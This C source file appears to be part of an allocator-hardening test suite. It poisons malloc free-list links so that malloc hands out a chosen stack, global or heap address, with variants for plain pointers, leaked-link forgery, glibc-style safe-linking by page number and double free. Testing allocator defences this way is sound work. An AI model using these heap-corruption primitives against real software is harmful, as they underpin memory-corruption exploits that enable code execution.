// A link in a free slot is overwritten by the address of memory that the attacker wants to have.
// The effect: malloc() hands out that address.
#include "attack.h"

#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#define TARGET_BYTES 2048

// What is wanted: something global, something on the stack, a live object.
enum { GLOBAL, STACK, OBJECT };

static char global[TARGET_BYTES] __attribute__((aligned(4096)));
static uintptr_t wanted;

// Two objects in pages whose numbers do not end in a 0: a number that was mixed with an address to hide it would not show there.
static void choose(size_t bytes, char **a, char **b) {
    size_t found = 0;
    for (size_t i = 0; i < 4000 && found < 2; i++) {
        char *ptr = allocate(bytes);
        if (((uintptr_t)ptr >> 12 & 15) != 0) {
            *(found == 0 ? a : b) = ptr;
            found++;
        }
    }
    if (found < 2) broken("there are no two such objects");
}

__attribute__((noreturn)) static void expect_target(size_t bytes) {
    for (size_t i = 0; i < 4000; i++)
        if ((uintptr_t)allocate(bytes) == wanted) effect("malloc handed out the target");
    harmless("malloc did not hand out the target");
}

static void with_target(size_t which, size_t bytes, void (*attack)(size_t)) {
    char on_stack[TARGET_BYTES] __attribute__((aligned(4096)));
    memset(on_stack, 0, sizeof on_stack);
    wanted = (uintptr_t)hidden(on_stack);
    if (which == GLOBAL) wanted = (uintptr_t)hidden(global);
    if (which == OBJECT) {
        char *object = allocate(bytes);
        memset(object, 0, bytes);
        wanted = (uintptr_t)object;
    }
    attack(bytes);
}

static void write_word(char *at, uintptr_t word) { MISTAKE(memcpy(at, &word, sizeof word)); }

static uintptr_t read_word(const char *at) {
    uintptr_t word;
    MISTAKE(memcpy(&word, at, sizeof word));
    return word;
}

// The address as it is.
static void plain(size_t bytes) {
    char *a, *b;
    choose(bytes, &a, &b);
    release(a);
    release(b);
    write_word(b, wanted);
    expect_target(bytes);
}

// The address in the form in which a link that the attacker could read, and whose target it knows, was.
static void as_seen(size_t bytes) {
    char *a, *b;
    choose(bytes, &a, &b);
    release(a);
    release(b);
    write_word(b, read_word(b) ^ (uintptr_t)a ^ wanted);
    expect_target(bytes);
}

// As glibc hides links: by the number of the page that holds the link.
static void by_page(size_t bytes) {
    char *a, *b;
    choose(bytes, &a, &b);
    release(a);
    release(b);
    write_word(b, wanted ^ (uintptr_t)b >> 12);
    expect_target(bytes);
}

// A slot that is freed, has its link overwritten, and is freed once more.
static void freed_twice(size_t bytes) {
    char *a, *b;
    choose(bytes, &a, &b);
    release(a);
    release(b);
    uintptr_t forged = read_word(b) ^ (uintptr_t)a ^ wanted;
    memset(b, 0, 2 * sizeof wanted);
    MISTAKE(free(b));
    write_word(b, forged);
    expect_target(bytes);
}

void poison_plain(size_t bytes, size_t target) { with_target(target, bytes, plain); }
void poison_as_seen(size_t bytes, size_t target) { with_target(target, bytes, as_seen); }
void poison_by_page(size_t bytes, size_t target) { with_target(target, bytes, by_page); }
void poison_freed_twice(size_t bytes, size_t target) { with_target(target, bytes, freed_twice); }
